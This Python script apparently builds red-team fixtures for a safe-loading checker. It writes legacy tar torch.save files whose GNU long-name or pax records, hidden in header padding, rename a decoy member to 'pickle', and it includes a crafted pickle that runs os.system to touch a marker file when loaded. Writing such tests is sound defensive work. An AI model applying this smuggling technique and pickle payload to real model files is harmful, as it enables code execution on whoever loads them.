"""Legacy (tar) torch.save files whose pax or GNU long-name headers tarfile reads over their
padding: tarfile reads an extended header's data in whole blocks, so a name completed, or a pax
record placed, in the padding after the declared size still names the next member.

Run: python3 make_tar_extended_fixtures.py [--prove]; --prove prints the members tarfile sees
(torch.load's legacy path reads them with tarfile.open(..., format=PAX_FORMAT) and extractfile).
Attack payload as in make_legacy_tar_fixtures.py.
"""
import io, os, pickle, struct, sys, tarfile

MARK = '/tmp/safeload-redteam-pwned'
HERE = os.path.dirname(os.path.abspath(__file__))


def evil_pickle():
    cmd = ('touch ' + MARK).encode()
    return b'\x80\x02cos\nsystem\nq\x00X' + struct.pack('<I', len(cmd)) + cmd + b'\x85R.'


BENIGN = pickle.dumps({'epoch': 3}, protocol=2)


def header(name, size, type):
    ti = tarfile.TarInfo(name)
    ti.size = size
    ti.type = type
    return ti.tobuf(format=tarfile.USTAR_FORMAT)


def member(name, data, type=tarfile.REGTYPE):
    return header(name, len(data), type) + data + b'\0' * (-len(data) % 512)


def extended(type, data, padding):
    """An extended header declaring len(data) bytes, its block padding starting with `padding`."""
    block = data + padding
    return header('././@LongLink', len(data), type) + block + b'\0' * (-len(block) % 512)


def pax_record(keyword, value):
    body = b' %s=%s\n' % (keyword, value)
    n = len(body) + 2
    return b'%d%s' % (n, body)


def torch_tar(*parts):
    return (member('storages', pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
            + member('tensors', pickle.dumps(0, protocol=2)) + b''.join(parts) + b'\0' * 1024)


def write(path, data):
    with open(os.path.join(HERE, path), 'wb') as f:
        f.write(data)


for suffix, payload in (('', evil_pickle()), ('_twin', BENIGN)):
    # GNU long name 'pickl' (5 bytes declared), its padding 'e\0': tarfile names the member 'pickle'.
    write(f'pickle_gnu_longname_ends_in_padding{suffix}.pt',
          torch_tar(extended(tarfile.GNUTYPE_LONGNAME, b'pickl', b'e\0'), member('decoy', payload)))
    # pax header declaring one record (path=decoy); a second one (path=pickle) in its padding.
    write(f'pickle_pax_record_in_padding{suffix}.pt',
          torch_tar(extended(tarfile.XHDTYPE, pax_record(b'path', b'decoy'), pax_record(b'path', b'pickle')),
                    member('decoy', payload)))

if '--prove' in sys.argv:
    for f in sorted(os.listdir(HERE)):
        if 'padding' in f:
            with tarfile.open(os.path.join(HERE, f), 'r:', format=tarfile.PAX_FORMAT) as t:
                names = [(m.name, m.size) for m in t.getmembers()]
                evil = b'system' in t.extractfile('pickle').read()
            print(f'{f:48s} {sys.version.split()[0]} members={names} pickle is the payload={evil}')
